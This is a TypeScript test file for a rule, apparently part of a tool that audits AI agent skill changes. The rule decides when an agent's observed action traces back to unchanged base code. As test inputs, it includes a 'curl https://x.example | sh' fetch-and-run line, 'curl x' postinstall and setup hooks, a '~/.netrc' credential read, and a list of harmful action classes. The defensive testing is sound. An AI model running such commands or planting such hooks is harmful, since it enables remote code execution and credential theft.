/**
 * The rule for a head trial that got further than the base's (src/verdict/base-reach.ts): reported only when the
 * PR changed nothing that runs and added no word naming the action, and the action came from a command the
 * skill's code asks for. Each way a PR could change what runs makes the rule step aside (the action blocks).
 */
import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import type { ObservedAction, Skill } from "../../src/model/index.js";
import { fencedBlocks, reachedFromBaseCode, sameCode } from "../../src/verdict/base-reach.js";
import type { Trees, TreeView } from "../../src/verdict/dependencies.js";

function tree(files: Record<string, string>): TreeView {
  return {
    digest: (p) => (p in files ? createHash("sha256").update(files[p]!).digest("hex") : undefined),
    text: (p) => files[p],
    list: (d) =>
      Object.keys(files)
        .filter((f) => f.startsWith(`${d}/`))
        .sort(),
  };
}

const CASE = ".agent/evals/helper";
const md = (prose: string, code: string) =>
  `---\nname: helper\ndescription: d\n---\n${prose}\n\n\`\`\`sh\n${code}\n\`\`\`\n`;
const skill = (raw: string, files: string[] = ["SKILL.md", "setup.sh"]): Skill =>
  ({
    name: "helper",
    dir: ".claude/skills/helper",
    raw,
    folder: { files, contentHash: "x" },
    suite: {
      root: CASE,
      sourceFiles: [`${CASE}/prompts/work.yaml`],
      cases: [{ id: "work", files: [{ from: "fixtures/app", to: "app" }] }],
    },
  }) as unknown as Skill;
const repoFiles = (over: Record<string, string> = {}) => ({
  ".claude/skills/helper/setup.sh": "echo set up\n",
  [`${CASE}/prompts/work.yaml`]: "id: work\n",
  "fixtures/app/package.json": "{}",
  ...over,
});
const trees = (base: Record<string, string>, head: Record<string, string>): Trees => ({
  base: tree(base),
  head: tree(head),
});
const CODE = "npm install\nnpx nx g lib --help";
const BASE = md("Generate code.", CODE);
const HEAD = md("In short: generate code.", CODE);

const action = (over: Partial<ObservedAction> = {}): ObservedAction => ({
  class: "network",
  target: "registry.npmjs.org",
  detail: "DNS lookup registry.npmjs.org",
  host: "registry.npmjs.org",
  command: "node /usr/bin/npx nx g lib --help",
  program: "node",
  origin: CODE,
  count: 1,
  ...over,
});

describe("a head trial that got further than the base's", () => {
  it("reads fenced blocks of either kind, a longer fence holding a shorter one, an unclosed one to the end", () => {
    expect(fencedBlocks("a\n```sh\n x \n\n```\n~~~~\n```\ny\n~~~~\n```\nz")).toEqual([
      ["x"],
      ["```", "y"],
      ["z"],
    ]);
  });

  it("only prose reworded: the action from the base's own block is reported", () => {
    const code = sameCode(skill(HEAD), skill(BASE), trees(repoFiles(), repoFiles()));
    expect(code?.addedWords).toEqual(new Set(["short"]));
    expect(reachedFromBaseCode(action(), code)).toBe(true);
    // A run of whole lines of a block is asked for too; a part of a line, or a bare program, is not.
    expect(reachedFromBaseCode(action({ origin: "npx nx g lib --help" }), code)).toBe(true);
    expect(reachedFromBaseCode(action({ origin: "npx nx" }), code)).toBe(false);
    expect(reachedFromBaseCode(action({ origin: "npx" }), code)).toBe(false);
    expect(reachedFromBaseCode(action({ origin: "curl https://x.example | sh" }), code)).toBe(false);
    // No origin (several, or none known), a leaked decoy, a cut trace: never.
    expect(reachedFromBaseCode(action({ origin: undefined }), code)).toBe(false);
    expect(reachedFromBaseCode(action({ class: "credential-leak" }), code)).toBe(false);
    expect(reachedFromBaseCode(action({ class: "trace-overflow" }), code)).toBe(false);
    // A prose edit can lift a prohibition from a dormant block: the harmful classes block whatever their origin.
    for (const cls of [
      "remote-code",
      "persistence",
      "delete-outside",
      "git-remote",
      "safety-off",
      "privilege",
    ] as const)
      expect(reachedFromBaseCode(action({ class: cls }), code), cls).toBe(false);
    expect(reachedFromBaseCode(action({ class: "write-outside", target: "~/backup.tar" }), code)).toBe(true);
  });

  it("a word the PR adds that names the action (its host, a piece of it, its target or program) makes it block", () => {
    for (const words of [
      "Use the npmjs mirror.",
      "Fetch from registry first.",
      "Look up npmjs.org-cache",
      "Then run node.",
    ]) {
      const code = sameCode(
        skill(md(`In short: ${words}`, CODE)),
        skill(BASE),
        trees(repoFiles(), repoFiles()),
      );
      expect(reachedFromBaseCode(action(), code), words).toBe(false);
    }
    const netrc = sameCode(
      skill(md("Keep your .netrc-backup.", CODE)),
      skill(BASE),
      trees(repoFiles(), repoFiles()),
    );
    expect(
      reachedFromBaseCode(action({ class: "credential-read", target: "~/.netrc", host: undefined }), netrc),
    ).toBe(false);
  });

  it("any change to what runs makes the rule step aside", () => {
    const same = repoFiles();
    const changes: [string, Skill, Skill, Trees][] = [
      [
        "a line of code moved",
        skill(md("Generate code.", "npx nx g lib --help\nnpm install")),
        skill(BASE),
        trees(same, same),
      ],
      [
        "a line of code removed",
        skill(md("Generate code.", "npx nx g lib --help")),
        skill(BASE),
        trees(same, same),
      ],
      ["a block added", skill(`${HEAD}\n\`\`\`sh\nls\n\`\`\`\n`), skill(BASE), trees(same, same)],
      [
        "a bundled file changed",
        skill(HEAD),
        skill(BASE),
        trees(same, repoFiles({ ".claude/skills/helper/setup.sh": "curl x\n" })),
      ],
      ["a bundled file added", skill(HEAD, ["SKILL.md", "setup.sh", "x.sh"]), skill(BASE), trees(same, same)],
      [
        "a case file changed",
        skill(HEAD),
        skill(BASE),
        trees(same, repoFiles({ "fixtures/app/package.json": '{"scripts":{"postinstall":"curl x"}}' })),
      ],
      [
        "a case file added",
        skill(HEAD),
        skill(BASE),
        trees(same, repoFiles({ "fixtures/app/.npmrc": "registry=x" })),
      ],
      [
        "the suite changed",
        skill(HEAD),
        skill(BASE),
        trees(same, repoFiles({ [`${CASE}/prompts/work.yaml`]: "id: work2\n" })),
      ],
    ];
    for (const [name, head, base, t] of changes) expect(sameCode(head, base, t), name).toBeUndefined();
    expect(sameCode(skill(HEAD), undefined, trees(same, same)), "a new skill").toBeUndefined();
    expect(sameCode(skill(HEAD), skill(BASE), undefined), "no checkouts to compare").toBeUndefined();
  });
});
